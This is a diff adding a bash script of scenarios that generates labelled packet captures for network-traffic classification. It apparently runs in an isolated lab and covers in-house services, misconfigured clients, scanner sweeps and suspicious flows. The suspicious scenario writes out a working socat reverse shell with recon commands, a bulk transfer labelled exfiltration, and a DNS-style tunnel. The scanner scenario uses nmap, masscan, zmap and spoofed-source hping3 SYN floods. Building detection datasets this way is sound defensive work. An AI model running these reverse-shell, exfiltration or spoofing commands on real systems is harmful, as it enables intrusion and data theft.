@@ -1,0 +1,244 @@
+# The scenarios, sourced by tools/record-scenarios (which defines the topology, run_in/bg,
+# label, cap_start/cap_stop).  Each one starts its servers, runs its clients (each bounded
+# by a count and by `timeout`), and writes one label row for every
+# (client, server, server_port, transport) it aimed traffic at.
+# shellcheck shell=bash
+
+scenario_custom_application() {
+  local sc=custom_application
+  cap_start custom_application
+  bg s1 90 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --seed $((seed + 1)) --lifetime 85
+  bg s3 90 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TLS" --cert "$work/tls.crt" --key "$work/tls.key" --lifetime 85
+  bg s3 90 python3 "$helpers/services.py" inhouse-server --port "$UNASSIGNED_CUSTOM" --seed $((seed + 2)) --lifetime 85
+  bg s2 90 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_UDP" --udp --seed $((seed + 3)) --lifetime 85
+  bg s2 90 socat "TCP-LISTEN:$CUSTOM_ECHO,fork,reuseaddr" EXEC:cat
+  # controls: the same kind of use of active, registered services
+  bg s2 90 python3 -m http.server 80 --bind "$S2" --directory "$helpers"
+  bg s2 90 python3 "$helpers/services.py" dns-server --port 53 --answer "$S1" --lifetime 85
+  sshd_on s3 22
+  tls_www_on s3 443
+  sleep 1
+  local pids=() c i n=0
+  for c in c1 c2 c3; do
+    n=$((n + 1))
+    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S1" --port "$CUSTOM_TCP" \
+      --sessions 8 --seed $((seed * 100 + n)) --gap-min 0.3 --gap-max 3 --deadline 40 & pids+=($!)
+    label "$(ipof "$c")" "$S1" "$CUSTOM_TCP" tcp custom_application "$sc.inhouse_tcp" python3
+  done
+  for c in c2 c4; do
+    n=$((n + 1))
+    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S3" --port "$CUSTOM_TLS" --tls \
+      --sessions 6 --seed $((seed * 100 + n)) --gap-min 0.5 --gap-max 4 --deadline 40 & pids+=($!)
+    label "$(ipof "$c")" "$S3" "$CUSTOM_TLS" tcp custom_application "$sc.inhouse_tls" python3
+  done
+  for c in c1 c3; do
+    n=$((n + 1))
+    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S3" --port "$UNASSIGNED_CUSTOM" \
+      --sessions 5 --seed $((seed * 100 + n)) --gap-min 0.5 --gap-max 4 --deadline 40 & pids+=($!)
+    label "$(ipof "$c")" "$S3" "$UNASSIGNED_CUSTOM" tcp custom_application "$sc.inhouse_tcp_unassigned" python3
+  done
+  for c in c1 c4; do
+    n=$((n + 1))
+    run_in "$c" 60 python3 "$helpers/services.py" inhouse-client --host "$S2" --port "$CUSTOM_UDP" --udp \
+      --sessions 6 --seed $((seed * 100 + n)) --gap-min 0.5 --gap-max 3 --deadline 40 & pids+=($!)
+    label "$(ipof "$c")" "$S2" "$CUSTOM_UDP" udp custom_application "$sc.inhouse_udp" python3
+  done
+  for c in c3 c4; do
+    (for ((i = 0; i < 5 && SECONDS < 600; i++)); do
+       head -c $((RANDOM % 3000 + 50)) /dev/urandom |
+         run_in "$c" 10 socat -t 1 - "TCP:$S2:$CUSTOM_ECHO,connect-timeout=2" >/dev/null 2>&1 || true
+       sleep "0.$((RANDOM % 9 + 1))"
+     done) & pids+=($!)
+    label "$(ipof "$c")" "$S2" "$CUSTOM_ECHO" tcp custom_application "$sc.socat_echo" socat
+  done
+  # controls on active ports (label benign: ordinary use of a live registered service)
+  for c in c1 c2; do
+    (for ((i = 0; i < 4; i++)); do run_in "$c" 10 curl -s -o /dev/null "http://$S2/services.py" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
+    label "$(ipof "$c")" "$S2" 80 tcp benign "$sc.control_http" curl
+  done
+  (for ((i = 0; i < 4; i++)); do run_in c3 10 dig +short +tries=1 +time=2 "@$S2" build.corp.internal >/dev/null || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
+  label "$C3" "$S2" 53 udp benign "$sc.control_dns" dig
+  (for ((i = 0; i < 2; i++)); do run_in c4 15 ssh-keyscan -T 5 -t ed25519 "$S3" >/dev/null 2>&1 || true; sleep 2; done) & pids+=($!)
+  label "$C4" "$S3" 22 tcp benign "$sc.control_ssh" ssh-keyscan
+  (for ((i = 0; i < 3; i++)); do run_in c2 10 curl -sk -o /dev/null "https://$S3/" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
+  label "$C2" "$S3" 443 tcp benign "$sc.control_https" curl
+  wait_all "${pids[@]}"
+  stop_scenario_bg
+  cap_stop pcap
+}
+
+scenario_misconfiguration() {
+  local sc=misconfiguration
+  cap_start misconfiguration
+  sshd_on s3 22 "$CURL_PORT"
+  tls_www_on s3 443
+  bg s1 60 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --lifetime 55
+  sleep 1
+  local pids=()
+  run_in c1 30 python3 "$helpers/services.py" retry --kind tcp --host "$S2" --port "$NOLISTEN_TCP" --count 8 --interval 0.8 --deadline 20 & pids+=($!)
+  label "$C1" "$S2" "$NOLISTEN_TCP" tcp misconfiguration "$sc.retry_closed_tcp" python3
+  run_in c2 30 python3 "$helpers/services.py" retry --kind udp --host "$S2" --port "$NOLISTEN_UDP" --count 8 --interval 0.8 --deadline 20 & pids+=($!)
+  label "$C2" "$S2" "$NOLISTEN_UDP" udp misconfiguration "$sc.retry_closed_udp" python3
+  (for ((i = 0; i < 3; i++)); do run_in c3 10 dig +tries=2 +time=1 -p "$DIG_PORT" "@$S1" fileserver.corp.internal >/dev/null || true; sleep 1; done) & pids+=($!)
+  label "$C3" "$S1" "$DIG_PORT" udp misconfiguration "$sc.dig_to_odd_port" dig
+  local c
+  for c in c1 c4; do
+    (for ((i = 0; i < 3; i++)); do run_in "$c" 10 curl -s -m 4 -o /dev/null "http://$S3:$CURL_PORT/index.html" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
+    label "$(ipof "$c")" "$S3" "$CURL_PORT" tcp misconfiguration "$sc.http_to_ssh" curl
+  done
+  (for ((i = 0; i < 3; i++)); do run_in c3 10 curl -s -m 4 -o /dev/null "http://$S3:443/" || true; sleep 1.$((RANDOM % 9)); done) & pids+=($!)
+  label "$C3" "$S3" 443 tcp misconfiguration "$sc.control_http_to_tls" curl
+  (for ((i = 0; i < 5; i++)); do run_in c4 5 logger --udp -n "$S1" -P "$SYSLOG_PORT" -t backup-job "nightly backup finished rc=$i" || true; sleep 0.$((RANDOM % 9 + 1)); done) & pids+=($!)
+  label "$C4" "$S1" "$SYSLOG_PORT" udp misconfiguration "$sc.syslog_wrong_port" logger
+  run_in c3 30 python3 "$helpers/services.py" retry --kind ntp --host "$S2" --port "$NTP_PORT" --count 5 --interval 1 --deadline 15 & pids+=($!)
+  label "$C3" "$S2" "$NTP_PORT" udp misconfiguration "$sc.ntp_wrong_port" python3
+  # the in-house client with a stale config: right port, wrong host
+  run_in c4 30 python3 "$helpers/services.py" retry --kind tcp --host "$S2" --port "$WRONGHOST_PORT" --count 6 --interval 1.2 --deadline 20 & pids+=($!)
+  label "$C4" "$S2" "$WRONGHOST_PORT" tcp misconfiguration "$sc.wrong_host" python3
+  # controls on active ports: the web and DNS servers that are not there
+  (for ((i = 0; i < 4; i++)); do run_in c2 10 curl -s -m 3 -o /dev/null "http://$S1/" || true; sleep 1; done) & pids+=($!)
+  label "$C2" "$S1" 80 tcp misconfiguration "$sc.control_http_no_server" curl
+  (for ((i = 0; i < 2; i++)); do run_in c1 10 dig +tries=2 +time=1 "@$S1" wiki.corp.internal >/dev/null || true; sleep 1; done) & pids+=($!)
+  label "$C1" "$S1" 53 udp misconfiguration "$sc.control_dns_no_server" dig
+  wait_all "${pids[@]}"
+  stop_scenario_bg
+  cap_stop pcap
+}
+
+scenario_scanner_noise() {
+  local sc=scanner_noise
+  cap_start scanner_noise
+  # something to find: the services of the other scenarios are up
+  bg s1 200 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TCP" --lifetime 195
+  bg s3 200 python3 "$helpers/services.py" inhouse-server --port "$CUSTOM_TLS" --cert "$work/tls.crt" --key "$work/tls.key" --lifetime 195
+  sshd_on s3 22 "$CURL_PORT"
+  bg s2 200 python3 -m http.server 80 --bind "$S2" --directory "$helpers"
+  bg s2 200 python3 "$helpers/services.py" dns-server --port 53 --lifetime 195
+  bg e2 200 socat "TCP-LISTEN:$VICTIM_OPEN,fork,reuseaddr" SYSTEM:"sleep 1"
+  sleep 1
+  local ports="1-1100,$ROLE_PORTS" nmap_common=(-Pn -n --max-retries 1 --host-timeout 90s)
+  # outside: SYN scan, a vertical sweep of one server
+  log "nmap -sS"
+  run_in es 120 nmap "${nmap_common[@]}" -T4 -sS -p "$ports" "$S1" >/dev/null
+  label_ports "$ES" "$S1" "$ports" tcp scanner_noise "$sc.nmap_syn" nmap
+  # outside: FIN, NULL and Xmas scans on a smaller range
+  local small="1-100,$ROLE_PORTS" t
+  for t in F N X; do
+    log "nmap -s$t"
+    run_in es 60 nmap "${nmap_common[@]}" -T5 "-s$t" -p "$small" "$S2" >/dev/null
+  done
+  label_ports "$ES" "$S2" "$small" tcp scanner_noise "$sc.nmap_fin_null_xmas" nmap
+  # outside: version detection on the open ports of two servers
+  log "nmap -sV"
+  local vports="22,80,443,$CUSTOM_TCP,$CUSTOM_TLS,$CURL_PORT"
+  run_in es 90 nmap "${nmap_common[@]}" -T4 -sV --version-intensity 2 -p "$vports" "$S3" >/dev/null
+  label_ports "$ES" "$S3" "$vports" tcp scanner_noise "$sc.nmap_version" nmap
+  # inside host: connect scan and UDP scan
+  log "nmap -sT/-sU from inside"
+  run_in ci 90 nmap "${nmap_common[@]}" -T4 -sT -p "1-300,$ROLE_PORTS" "$S3" >/dev/null
+  label_ports "$CI" "$S3" "1-300,$ROLE_PORTS" tcp scanner_noise "$sc.nmap_connect_inside" nmap
+  local uports="50-60,123,137,161,500,$ROLE_PORTS"
+  run_in ci 90 nmap "${nmap_common[@]}" -T4 -sU -p "$uports" "$S2" >/dev/null
+  label_ports "$CI" "$S2" "$uports" udp scanner_noise "$sc.nmap_udp_inside" nmap
+  # outside: masscan, horizontal over the inside server network
+  log "masscan"
+  local mports="22,80,443,$CUSTOM_TCP,$CURL_PORT,$DIG_PORT"
+  run_in es 60 masscan -e eth0 --adapter-ip "$ES" --adapter-mac "$ES_MAC" --router-mac "$R_MAC_OUT" \
+    --rate 1000 --wait 2 -p "$mports" "$SRV_NET.1-$SRV_NET.254" >/dev/null 2>>"$work/bg.log" || true
+  local h
+  for ((h = 1; h <= 254; h++)); do label_ports "$ES" "$SRV_NET.$h" "$mports" tcp scanner_noise "$sc.masscan" masscan; done
+  # outside: zmap, one port across the inside client network (its default blocklist
+  # would refuse private space; the allowlist is exactly the namespace subnet)
+  log "zmap"
+  : >"$work/zmap.blocklist"
+  echo "$CLI_NET.0/24" >"$work/zmap.allowlist"
+  run_in es 60 zmap -q -i eth0 -S "$ES" -G "$R_MAC_OUT" --source-mac "$ES_MAC" -b "$work/zmap.blocklist" \
+    -w "$work/zmap.allowlist" -p "$DIG_PORT" -r 300 -c 2 -t 20 -o /dev/null "$CLI_NET.0/24" >/dev/null 2>>"$work/bg.log" || true
+  for ((h = 0; h <= 255; h++)); do label "$ES" "$CLI_NET.$h" "$DIG_PORT" tcp scanner_noise "$sc.zmap" zmap; done
+  # hping3 SYN probes: outside on one port, inside walking a port range
+  log "hping3"
+  run_in es 20 hping3 -q -S -p "$CURL_PORT" -c 8 -i u200000 "$S2" >/dev/null 2>&1 || true
+  label "$ES" "$S2" "$CURL_PORT" tcp scanner_noise "$sc.hping3_syn" hping3
+  run_in ci 20 hping3 -q -S -p "++$CUSTOM_TCP" -c 20 -i u100000 "$S1" >/dev/null 2>&1 || true
+  label_ports "$CI" "$S1" "$CUSTOM_TCP-$((CUSTOM_TCP + 19))" tcp scanner_noise "$sc.hping3_syn_inside" hping3
+  # backscatter: e4 floods e2 with SYNs forged from unused inside addresses; what we see
+  # are e2's SYN-ACKs (open port) and RSTs (closed port) to hosts that never asked
+  log "backscatter"
+  local k spoof
+  for ((k = 0; k < 6; k++)); do
+    spoof=$CLI_NET.$((SPOOF_FIRST + k))
+    run_in e4 10 hping3 -q -S -a "$spoof" -p "$VICTIM_OPEN" -c 2 -i u300000 "$E2" >/dev/null 2>&1 || true
+    run_in e4 10 hping3 -q -S -a "$spoof" -p "$VICTIM_CLOSED" -c 2 -i u300000 "$E2" >/dev/null 2>&1 || true
+    label "$spoof" "$E2" "$VICTIM_OPEN" tcp scanner_noise "$sc.backscatter_synack" hping3
+    label "$spoof" "$E2" "$VICTIM_CLOSED" tcp scanner_noise "$sc.backscatter_rst" hping3
+  done
+  stop_scenario_bg
+  cap_stop pcapng
+}
+
+scenario_suspicious() {
+  local sc=suspicious
+  cap_start suspicious
+  bg e1 80 python3 "$helpers/services.py" beacon-server --port "$BEACON_OUT" --lifetime 75
+  bg e1 80 python3 "$helpers/services.py" beacon-server --port "$UNASSIGNED_BEACON" --lifetime 75
+  bg e3 80 python3 "$helpers/services.py" beacon-server --port 443 --lifetime 75
+  bg s3 80 python3 "$helpers/services.py" beacon-server --port "$BEACON_IN" --lifetime 75
+  bg e1 80 python3 "$helpers/services.py" dns-server --port "$TUNNEL_PORT" --lifetime 75
+  bg e4 80 socat -u "TCP-LISTEN:$EXFIL_PORT,reuseaddr" OPEN:/dev/null
+  sleep 1
+  local pids=() cnt
+  cnt=$(awk -v s="$BEACON_S" 'BEGIN{print int(24/s)}')
+  run_in c3 60 python3 "$helpers/services.py" beacon-client --host "$E1" --port "$BEACON_OUT" --count "$cnt" --interval "$BEACON_S" --jitter 0.2 --seed $((seed + 11)) --deadline 40 & pids+=($!)
+  label "$C3" "$E1" "$BEACON_OUT" tcp suspicious "$sc.beacon_out" python3
+  run_in c1 60 python3 "$helpers/services.py" beacon-client --host "$E1" --port "$UNASSIGNED_BEACON" --count "$cnt" --interval "$BEACON_S" --jitter 0.1 --seed $((seed + 12)) --deadline 40 & pids+=($!)
+  label "$C1" "$E1" "$UNASSIGNED_BEACON" tcp suspicious "$sc.beacon_out_unassigned" python3
+  run_in e2 60 python3 "$helpers/services.py" beacon-client --host "$S3" --port "$BEACON_IN" --count 10 --interval 2.2 --jitter 0.25 --seed $((seed + 13)) --deadline 40 & pids+=($!)
+  label "$E2" "$S3" "$BEACON_IN" tcp suspicious "$sc.beacon_in_accepted" python3
+  run_in c4 60 python3 "$helpers/services.py" beacon-client --host "$E3" --port 443 --count "$cnt" --interval "$BEACON_S" --jitter 0.15 --seed $((seed + 14)) --deadline 40 & pids+=($!)
+  label "$C4" "$E3" 443 tcp suspicious "$sc.control_beacon_443" python3
+  # reverse shell: the inside host calls out, the outside listener drives a shell
+  ( { sleep 1; for cmd in id "uname -a" hostname "ls /" "ip -brief addr" "cat /etc/os-release"; do
+        echo "$cmd"; sleep 0.$((RANDOM % 9 + 1)); sleep 1; done; echo exit; sleep 1; } |
+      run_in e3 30 socat -t 2 - "TCP-LISTEN:$SHELL_PORT,reuseaddr" >/dev/null 2>&1 || true ) & pids+=($!)
+  sleep 0.5
+  run_in c2 30 socat "TCP:$E3:$SHELL_PORT,connect-timeout=3,retry=3" EXEC:/bin/sh,stderr >/dev/null 2>&1 & pids+=($!)
+  label "$C2" "$E3" "$SHELL_PORT" tcp suspicious "$sc.reverse_shell" socat
+  # a large one-way transfer of random bytes to an outside host
+  (sleep 3; timeout 30 openssl rand $((1200000 + RANDOM * 10)) |
+     run_in s2 30 socat -u - "TCP:$E4:$EXFIL_PORT,connect-timeout=3" >/dev/null 2>&1 || true) & pids+=($!)
+  label "$S2" "$E4" "$EXFIL_PORT" tcp suspicious "$sc.exfil_random" "openssl rand + socat"
+  # DNS-shaped tunnel on an odd port
+  run_in c4 60 python3 "$helpers/services.py" dns-tunnel-client --host "$E1" --port "$TUNNEL_PORT" --count 60 --interval "$TUNNEL_S" --seed $((seed + 15)) --deadline 30 & pids+=($!)
+  label "$C4" "$E1" "$TUNNEL_PORT" udp suspicious "$sc.dns_tunnel_odd_port" python3
+  wait_all "${pids[@]}"
+  stop_scenario_bg
+  cap_stop pcap
+}
+
+# All of the above at once: every capture shifted to start within a few seconds of the
+# first, then merged; labels are the union (a tuple never carries two labels).
+build_mixed() {
+  local f first start shift_s i=0 parts=()
+  CAP=mixed
+  for f in "${FINAL[@]}"; do
+    [[ $f == mixed.* ]] && continue
+    start=$(capinfos -a -S -T -r "$work/$f" | cut -f2 | cut -d. -f1)
+    [[ -z ${first:-} ]] && first=$start
+    shift_s=$((first - start + i * 7))
+    timeout 60 editcap -F pcap -t "$shift_s" "$work/$f" "$work/mixed.part$i.pcap"
+    parts+=("$work/mixed.part$i.pcap")
+    i=$((i + 1))
+  done
+  ((${#parts[@]})) || { log "mixed: nothing recorded to mix"; return 1; }
+  timeout 60 mergecap -F pcap -w "$work/mixed.pcap" "${parts[@]}"
+  local conflicts
+  conflicts=$(for f in "${FINAL[@]}"; do tail -n +2 "$work/${f%.*}.labels.final.csv"; done |
+    awk -F, '{k=$1","$2","$3","$4; if (k in l && l[k] != $5) print k": "l[k]" vs "$5; l[k]=$5}')
+  if [[ -n $conflicts ]]; then log "a tuple carries two labels:"; echo "$conflicts" >&2; return 1; fi
+  { echo "client,server,server_port,transport,label,scenario,tool,port_role"
+    for f in "${FINAL[@]}"; do tail -n +2 "$work/${f%.*}.labels.final.csv"; done |
+      awk -F, '!seen[$1 FS $2 FS $3 FS $4]++' | sort -t, -k1,1 -k2,2 -k3,3n; } \
+    >"$work/mixed.labels.final.csv"
+  FINAL+=(mixed.pcap)
+  log "capture mixed: $(wc -l <"$work/mixed.labels.final.csv") label rows"
+}
